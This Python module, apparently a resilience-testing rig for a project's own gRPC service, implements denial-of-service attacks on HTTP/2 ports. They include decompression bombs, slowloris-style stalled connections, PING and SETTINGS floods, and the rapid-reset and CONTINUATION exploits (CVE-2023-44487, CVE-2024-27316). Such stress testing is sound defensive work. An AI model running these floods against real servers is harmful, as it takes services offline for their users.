"""What somebody without a key can do to the port of a cloud: attacks, each held for as long as its context lasts.

`with ATTACKS[name](host, port):` has made the attack when its body begins, and closes all that it holds at its end.
That a server hangs up on it is no error.
"""

from __future__ import annotations

import contextlib
import socket
import struct
import threading
from collections.abc import Callable, Iterator
from contextlib import AbstractContextManager
from functools import partial
from typing import Final

import grpc
from cryptography.hazmat.primitives.asymmetric.ed25519 import Ed25519PrivateKey
from grpc_health.v1 import health_pb2

from isthmus.experiments.rigs.abuse import http2
from isthmus.experiments.rigs.abuse.http2 import Connection, field, frame
from isthmus.protocol.secure.framing import write_frame
from isthmus.protocol.secure.keys import Fingerprint
from isthmus.protocol.service import METHOD
from isthmus.protocol.session import EdgeSession

CHECK: Final = "/grpc.health.v1.Health/Check"
WATCH: Final = "/grpc.health.v1.Health/Watch"
STARVED: Final = http2.PREFACE + frame(http2.SETTINGS, 0, 0, struct.pack("!HI", http2.INITIAL_WINDOW, 0))
"""Opens a connection, and leaves no window for any answer."""

Attack = Callable[[str, int], AbstractContextManager[list[Connection]]]


def held(connect: Callable[[str, int], Connection], count: int = 2) -> Attack:
    """Holds so many connections."""

    @contextlib.contextmanager
    def attack(host: str, port: int) -> Iterator[list[Connection]]:
        with contextlib.ExitStack() as stack:
            connections = []
            for _ in range(count):
                with contextlib.suppress(OSError):
                    connections.append(stack.enter_context(connect(host, port)))
            yield connections

    return attack


def idle_connections(count: int = 256) -> Attack:
    """Connects with HTTP/2, and opens no stream."""
    return held(Connection, count)


def open_streams(
    method: str,
    *,
    connections: int = 2,
    streams: int = 256,
    extra: bytes = b"",
    body: Callable[[], bytes] = bytes,
    opening: bytes | None = None,
) -> Attack:
    """Opens streams of a method, and leaves them open.

    Args:
        extra: further header fields, encoded.
        body: makes what is sent of each stream's data, as far as the windows take it at once.
    """

    def connect(host: str, port: int) -> Connection:
        connection, data = Connection(host, port, opening), body()
        opened = [connection.request(method, extra) for _ in range(streams)]
        for stream in opened if data else ():
            connection.data(stream, data, 0.02)
        return connection

    return held(connect, connections)


def _compressed(method: str, message: Callable[[], bytes]) -> Attack:
    @contextlib.contextmanager
    def attack(host: str, port: int) -> Iterator[list[Connection]]:
        options = [("grpc.max_send_message_length", -1), ("grpc.use_local_subchannel_pool", 1)]
        with grpc.insecure_channel(f"{host}:{port}", options) as channel:
            stop, raw = threading.Event(), message()

            def messages() -> Iterator[bytes]:
                yield raw
                stop.wait()

            ask = channel.stream_stream(method)
            calls = [ask(messages(), compression=grpc.Compression.Gzip) for _ in range(100)]
            for call in calls:
                with contextlib.suppress(grpc.RpcError):
                    call.initial_metadata()
            try:
                yield []
            finally:
                stop.set()
                for call in calls:
                    call.cancel()

    return attack


def _flood(one: bytes) -> Attack:
    def connect(host: str, port: int) -> Connection:
        connection = Connection(host, port, deaf=True)
        for _ in range(50):
            connection.send(one * 1000)
        return connection

    return held(connect)


def _reset_streams(host: str, port: int) -> Connection:
    connection = Connection(host, port)
    for _ in range(2000):
        stream = connection.request(METHOD)
        connection.send(frame(http2.RST_STREAM, 0, stream, (8).to_bytes(4)))
    return connection


def _endless_headers(host: str, port: int) -> Connection:
    connection = Connection(host, port)
    stream = connection.request(METHOD, flags=0)
    part = field(b"x-more", b"a" * 16_000)
    for _ in range(500):
        connection.send(frame(http2.CONTINUATION, 0, stream, part))
    return connection


def _long_question() -> bytes:
    """Asks for health under a long name."""
    raw: bytes = health_pb2.HealthCheckRequest(service="a" * 4_000_000).SerializeToString()
    return raw


def _hello() -> bytes:
    """The first frame of a handshake, of an edge that nobody has enrolled."""
    key = Ed25519PrivateKey.generate()
    edge = EdgeSession(pin=Fingerprint.of(key.public_key().public_bytes_raw()), edge_key=key)
    return _message(write_frame(edge.start()))


def _message(raw: bytes) -> bytes:
    """A message as gRPC has it in the data of a stream, not compressed."""
    return b"\0" + len(raw).to_bytes(4) + raw


def _unfinished() -> bytes:
    """All but the last byte of a message of 1 MiB."""
    return _message(bytes(1 << 20))[:-1]


@contextlib.contextmanager
def _crowd(host: str, port: int) -> Iterator[list[Connection]]:
    """Connects more often than a server allows, without waiting for any of them."""
    with contextlib.ExitStack() as stack:
        for _ in range(2500):
            connection = stack.enter_context(socket.socket())
            connection.setblocking(False)
            connection.connect_ex((host, port))
        yield []


@contextlib.contextmanager
def _again(attack: Attack, host: str, port: int) -> Iterator[list[Connection]]:
    """Makes an attack again and again, from a thread of its own, until its context ends."""
    stop = threading.Event()

    def make() -> None:
        while not stop.is_set():
            with contextlib.suppress(OSError), attack(host, port):
                stop.wait(0.2)

    thread = threading.Thread(target=make)
    thread.start()
    try:
        yield []
    finally:
        stop.set()
        thread.join()


NEWCOMERS: Final[dict[str, Attack]] = {
    # Connections without a stream, more than a server takes, and hellos that cannot be read.
    "crowds": partial(_again, _crowd),
    "unreadable_hellos": partial(
        _again, open_streams(METHOD, connections=1, streams=100, body=lambda: _message(b"GET / HTTP/1.1"))
    ),
}
"""Attacks that keep newcomers of the same host out where a server has no share for each."""

ATTACKS: Final[dict[str, Attack]] = {
    # Messages that the server would have to decompress: a thousandth of what it would hold is sent.
    "compressed_watches": _compressed(WATCH, _long_question),
    "compressed_checks": _compressed(CHECK, _long_question),
    "compressed_hellos": _compressed(METHOD, lambda: bytes(4_000_000)),
    # Connections on which nothing comes, half of the preface, and no stream.
    "silent_connections": held(lambda host, port: Connection(host, port, b"", mute=True), 256),
    "half_prefaces": held(lambda host, port: Connection(host, port, http2.PREFACE[:-1], mute=True), 256),
    "idle_connections": idle_connections(),
    # Streams in which nothing comes, the second with header fields as long as a server takes.
    "silent_streams": open_streams(METHOD),
    "silent_checks": open_streams(CHECK),
    "large_headers": open_streams(METHOD, extra=field(b"x-long", b"a" * 7000)),
    # All but the last byte of a message, and as many frames as the windows take before the server has asked for any.
    "unfinished_messages": open_streams(METHOD, streams=64, body=_unfinished),
    "unfinished_checks": open_streams(CHECK, streams=64, body=_unfinished),
    "unread_frames": open_streams(METHOD, streams=64, body=lambda: _message(bytes(1 << 14)) * 512),
    # Handshakes and questions whose answers are not taken.
    "starved_streams": open_streams(METHOD, body=_hello, opening=STARVED),
    "starved_checks": open_streams(CHECK, body=lambda: _message(b""), opening=STARVED),
    # Frames whose acknowledgements are not read.
    "pings": _flood(frame(http2.PING, 0, 0, bytes(8))),
    "settings": _flood(frame(http2.SETTINGS, 0, 0)),
    "resets": held(_reset_streams),  # "rapid reset", CVE-2023-44487
    "continuations": held(_endless_headers),  # header fields that do not end, CVE-2024-27316
    **NEWCOMERS,
}
